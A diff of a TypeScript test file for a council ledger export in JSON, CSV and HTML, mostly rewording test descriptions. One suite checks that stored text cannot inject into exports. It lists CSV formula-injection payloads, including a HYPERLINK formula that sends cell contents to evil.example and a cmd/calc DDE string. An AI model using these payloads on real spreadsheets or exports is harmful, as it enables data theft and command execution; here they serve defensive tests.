@@ -67,7 +67,7 @@ describe("The document of an export", () => {
     ...["Support", "Submission", "Signal"],
   ];
 
-  it("asks for every field of a concern and of whatever else a ledger holds, so that none is left out when one is added", () => {
+  it("asks for every field of every record in a ledger, so that a new field is exported", () => {
     const asked = new Set<string>();
     const types = new TypeInfo(schema);
     visit(
@@ -119,7 +119,7 @@ describe("An export of a ledger in which everything has happened", () => {
   });
   afterAll(() => hub?.close());
 
-  it("is a file that nobody keeps on the way, under a name that tells nothing", () => {
+  it("is a file that no proxy stores, with a name that says nothing of the council", () => {
     const kinds = { json: "application/json", csv: "text/csv", html: "text/html" };
     for (const format of FORMATS) {
       const { status, headers } = files[format];
@@ -130,7 +130,7 @@ describe("An export of a ledger in which everything has happened", () => {
     }
   });
 
-  it("holds as many concerns, entries and disclosures as it says, and each concern's events without a gap", () => {
+  it("has as many concerns, events and disclosures as its totals say, and each concern's events without a gap", () => {
     const { totals, concerns, disclosures, ofCouncil } = held;
     expect(totals).toEqual({
       concerns: concerns.length,
@@ -149,13 +149,13 @@ describe("An export of a ledger in which everything has happened", () => {
     for (const { version, history } of concerns) expect(history?.map(({ number }) => number)).toEqual(oneTo(version ?? 0));
   });
 
-  it("holds the reasons and statements that were given with agreements, leads and approaches, in every format", () => {
+  it("has the reasons and statements of agreements, leads and approaches in every format", () => {
     const reasons = ["The lead moves to another region.", "The leads visit that week.", "For this year.", "The year is over."];
     for (const said of reasons) for (const format of FORMATS) expect(files[format].text, format).toContain(said);
   });
   const oneTo = (last: number) => Array.from({ length: last }, (_, at) => at + 1);
 
-  it("holds every concern and every disclosure that the ledger over GraphQL does", async () => {
+  it("has every concern and disclosure of the ledger over GraphQL", async () => {
     const { body } = await hub.ask<{ ledger: { concerns: { nodes: { id: string; version: number }[] } } }>(
       "chief-executive",
       `{ ledger(council: "${TARROWSHIRE}") { ... on Ledger { concerns(first: 100) { nodes { id version } } } } }`,
@@ -166,7 +166,7 @@ describe("An export of a ledger in which everything has happened", () => {
     expect(before.filter(({ id }) => !ids.has(id))).toEqual([]);
   });
 
-  it("has a row in CSV for every event, disclosure and thing of the council, and says the same totals", () => {
+  it("has a row in CSV for every event, disclosure and record about the council, and the same totals", () => {
     const [heads = [], ...rows] = cellsOf(files.csv.text);
     const records = rows.map((row) => Object.fromEntries(heads.map((head, at) => [head, row[at] ?? ""])));
     const of = (kind: string) => records.filter(({ record }) => record === kind);
@@ -190,7 +190,7 @@ describe("An export of a ledger in which everything has happened", () => {
     expect(times).toEqual(times.toSorted());
   });
 
-  it("names with each event what it is about by id, which stands in the concern, and in CSV in the event's row", () => {
+  it("gives the id of what each event is about, which is an id in the concern and in the event's row of CSV", () => {
     const [heads = [], ...rows] = cellsOf(files.csv.text);
     const cell = (row: readonly string[], head: string) => row[heads.indexOf(head)];
     const idsOfRows = new Map(
@@ -223,7 +223,7 @@ describe("An export of a ledger in which everything has happened", () => {
     });
   });
 
-  it("tells in CSV who proposed what to whom, for what, until when, and what the council said", () => {
+  it("says in CSV who objected to a share with whom, of which parts, until when, and why", () => {
     const [heads = [], ...rows] = cellsOf(files.csv.text);
     const objected = rows.find((row) => row[heads.indexOf("what")] === "The council objected to a share") ?? [];
     const cell = (head: string) => objected[heads.indexOf(head)];
@@ -236,7 +236,7 @@ describe("An export of a ledger in which everything has happened", () => {
     ]);
   });
 
-  it("says on the page and in CSV every text, name and id that stands in JSON", () => {
+  it("has on the page and in CSV every text, name and id of JSON", () => {
     const { csv, html } = files;
     const cells = cellsOf(csv.text)
       .flat()
@@ -273,7 +273,7 @@ describe("An export of a ledger in which everything has happened", () => {
   const isWordedElsewise = (text: string) =>
     /^[A-Z][A-Z0-9_]*$/.test(text) || /^\d{4}-\d\d-\d\d(T|$)/.test(text) || /^E12/.test(text);
 
-  it("is a page of one piece that runs and fetches nothing, in headings that follow each other, and lists what policies say", () => {
+  it("is one page that runs and fetches nothing, skips no level of headings, and has the texts of policies", () => {
     const { text, headers } = files.html;
     expect(text).toMatch(/^<!doctype html>\n<html lang="en-GB">/);
     expect(text).not.toMatch(/<script|<link|<img|<iframe|\s(src|href|style|on\w+)=|@import|url\(/i);
@@ -288,7 +288,7 @@ describe("An export of a ledger in which everything has happened", () => {
       for (const said of [id, reason ?? "", challenge ?? ""]) expect(page).toContain(said);
   });
 
-  it("says what every policy says that it names: by which one can see, something left, or something was done", () => {
+  it("has the text of every policy that it names, whether for access, a disclosure or a change", () => {
     const { concerns, disclosures, policies } = held;
     const explained = new Set(policies.filter(({ reason }) => reason).map(({ id }) => id));
     const seeing = concerns.flatMap(({ audience }) => audience?.flatMap(({ parts }) => parts.map((part) => part.policies)) ?? []);
@@ -304,7 +304,7 @@ describe("An export of a ledger in which everything has happened", () => {
       for (const said of [id, reason ?? "", ...versions]) expect(cells).toContain(said);
   });
 
-  it("summarises who has it now and who opened it, and tells times as they are in England", () => {
+  it("summarises who has access and who opened it, in English time", () => {
     const page = asText(files.html.text);
     const live = held.concerns.flatMap(({ sharingRecord }) => sharingRecord ?? []).filter(({ status }) => status === "LIVE");
     expect(live.length).toBeGreaterThan(0);
@@ -313,7 +313,7 @@ describe("An export of a ledger in which everything has happened", () => {
     expect(page).toContain("1 July 2026 at 13:00:00 BST");
   });
 
-  it("begins with who can see something of it, and lists by name who read and who acted, others before the council", () => {
+  it("begins with who can see it, and counts by name who read and who changed something, people outside the council first", () => {
     const [see, opened] = ["Who can see this information now", "Who opened it"].map((caption) =>
       rowsOf(files.html.text, caption),
     );
@@ -341,7 +341,7 @@ describe("An export of a ledger in which everything has happened", () => {
     }
   });
 
-  it("is on record as an export, to its reader in their office, before they have it", async () => {
+  it("is recorded as an export to its reader in their office", async () => {
     const { disclosures, concerns } = held;
     const exports = disclosures.filter(({ surface }) => surface === "EXPORT");
     expect(new Set(exports.map(({ concern }) => concern))).toEqual(new Set(concerns.map(({ id }) => id)));
@@ -352,7 +352,7 @@ describe("An export of a ledger in which everything has happened", () => {
     expect(disclosures.filter(({ surface }) => surface === "LEDGER").map(({ id }) => id)).toEqual(readBefore);
   });
 
-  it("of a past moment holds the ledger as it was and nothing else, and says so", async () => {
+  it("of a past time has the ledger as it was and nothing else, and says so", async () => {
     const past = await heldBy(hub, "chief-executive", { at: "2026-03-02T12:00:00.000Z" });
     expect(past).toMatchObject({ at: "2026-03-02T12:00:00.000Z", isOfThePast: true, ofCouncil: null });
     expect(past.scope.join(" ")).toContain("This is the ledger at a time in the past.");
@@ -394,7 +394,7 @@ describe("An export under another policy than the one in force", () => {
     [version(4)]: { "no.cedar": "no policy" },
   };
 
-  it("tells each policy as it read then, and names it without words where its text is not found", async () => {
+  it("has the text of each policy in each version, and none where it is not found", async () => {
     const policies = await policiesNamed(held, (one) => known[one]);
     expect(policies.map(({ id, reason, versions }) => [id, reason !== null, versions])).toEqual([
       ["council-reads", true, [version(1), version(2)]],
@@ -406,7 +406,7 @@ describe("An export under another policy than the one in force", () => {
   });
 });
 
-describe("What is in a ledger breaks out of no format", () => {
+describe("Text in a ledger cannot inject anything", () => {
   const NASTY = [
     '=HYPERLINK("http://evil.example/?"&A1;"x")',
     "+1+cmd|' /C calc'!A0",
@@ -435,7 +435,7 @@ describe("What is in a ledger breaks out of no format", () => {
   });
   afterAll(() => story?.close());
 
-  it("CSV: no cell is a formula, each row has as many as the heading, and behind the apostrophe is what was written", async () => {
+  it("into CSV: no cell is a formula, and the text follows the apostrophe", async () => {
     const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "csv" });
     expect(text.startsWith('\uFEFF"record","when",')).toBe(true);
     expect(text.endsWith("\r\n")).toBe(true);
@@ -447,7 +447,7 @@ describe("What is in a ledger breaks out of no format", () => {
     for (const said of STORED) expect(cells).toContain(said);
   });
 
-  it("HTML: what was written is text, and the page has no element that is not its own", async () => {
+  it("into HTML: it is text, and the page has only its own elements", async () => {
     const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "html" });
     expect(text).not.toMatch(/<script|<b |onmouseover='x'>/);
     const page = asText(text);
@@ -487,14 +487,14 @@ describe("An export is refused", () => {
     expect((await exported(hub, person, { ...good, at: "2001-01-01T00:00:00Z" })).text).toBe(refused.text);
   });
 
-  it("without a token, and with anything but POST, before anything is read", async () => {
+  it("without a token, and with any method but POST", async () => {
     const headers = { "content-type": "application/json" };
     expect((await fetch(`${hub.url}/ledger`, { method: "POST", body: "{", headers })).status).toBe(401);
     const got = await fetch(`${hub.url}/ledger?council=${TARROWSHIRE}&format=json`);
     expect([got.status, got.headers.get("allow")]).toEqual([405, "POST"]);
   });
 
-  it("in another form than the one wanted, which it names", async () => {
+  it("with a body of another form, and names the form", async () => {
     for (const body of [
       "{",
       "[]",
@@ -523,7 +523,7 @@ describe("An export is refused", () => {
     expect(JSON.parse(refused.text).errors[0].extensions.field).toBe("at");
   });
 
-  it.each(FORMATS)("as %s when nothing can be put on record; and is given once it can", async (format) => {
+  it.each(FORMATS)("as %s while disclosures cannot be recorded, and works when they can", async (format) => {
     // Past the hour in which the same views are on record already.
     story.on(`2026-03-1${FORMATS.indexOf(format)}`);
     const append = vi.spyOn(hub.hub.disclosures, "append").mockRejectedValue(new LogUnavailable("It could not be written."));
@@ -536,7 +536,7 @@ describe("An export is refused", () => {
     expect((await exported(hub, "chief-executive", { ...good, format })).text).toContain(concern.summary);
   });
 
-  it("when its pages do not fit each other, rather than leave something out", async () => {
+  it("when its pages do not fit each other", async () => {
     const { log } = hub.hub;
     const readStream = log.readStream.bind(log);
     vi.spyOn(log, "readStream").mockImplementation(async (stream, ...more) => (await readStream(stream, ...more)).slice(0, -1));
@@ -545,7 +545,7 @@ describe("An export is refused", () => {
     expect(refused.text).not.toContain(concern.summary);
   });
 
-  it("when a resolver fails, in one sentence that tells nothing", async () => {
+  it("when a resolver fails, without the error's text", async () => {
     vi.spyOn(hub.hub.log, "readStream").mockRejectedValue(new Error("secret"));
     const refused = await exported(hub, "chief-executive", good);
     expect([refused.status, codeOf(refused)]).toEqual([500, "INTERNAL"]);
@@ -553,7 +553,7 @@ describe("An export is refused", () => {
     expect(hub.logged.join("")).not.toContain("secret");
   });
 
-  it("for who has one made for them already", async () => {
+  it("while another one for the person is being made", async () => {
     const { log } = hub.hub;
     const readStream = log.readStream.bind(log);
     const [begun, ready] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
@@ -573,14 +573,14 @@ describe("An export is refused", () => {
   });
 });
 
-describe("An export of what was done twice in one moment", () => {
+describe("An export of what was done twice at one time", () => {
   let story: Story;
   beforeAll(async () => {
     story = await startStory();
   });
   afterAll(() => story?.close());
 
-  it("tells in CSV with the last of two positions what the council says now, and with the first what it said then", async () => {
+  it("has the council's present words with the last of two positions in CSV, and its words at the time with each", async () => {
     const id = await story.awareConcern([proposal.body]);
     await story.does("adviser", "proposeShare", { ...proposal, concern: id });
     const share = story.hub.register.queries().findUnchecked(id)?.state().shares[0]?.id;
@@ -610,7 +610,7 @@ describe("An export of more than a page", () => {
   });
   afterAll(() => story?.close());
 
-  it("holds every concern and disclosure once", async () => {
+  it("has every concern and disclosure once", async () => {
     const ids: string[] = [];
     for (let n = 0; n < 23; n += 1) ids.push(await story.awareConcern([proposal.body]));
     for (const day of ["03", "04", "05", "06", "09", "10"]) {
@@ -624,7 +624,7 @@ describe("An export of more than a page", () => {
     expect(totals).toMatchObject({ concerns: 23, disclosures: disclosures.length });
   });
 
-  it("of a moment before the council was made aware of a concern is whole without it", async () => {
+  it("of a time before the council was made aware of a concern is complete without it", async () => {
     const at = "2026-03-02T12:00:00.000Z";
     const late = await story.does("adviser", "logConcern", { ...concern, strand: "ADULTS" });
     story.on("2026-03-11");
@@ -638,7 +638,7 @@ describe("An export of more than a page", () => {
     expect((await heldBy(story.test, "chief-executive", { at })).concerns.length).toBe(23);
   });
 
-  it("is read as the council alone, by an adviser who speaks for it too", async () => {
+  it("is read as the council, by an adviser who is its officer too", async () => {
     const unaware = await story.does("adviser", "logConcern", concern);
     const { people } = story.hub.services;
     const lasting = { from: "2020-01-01", until: "2039-12-31" };
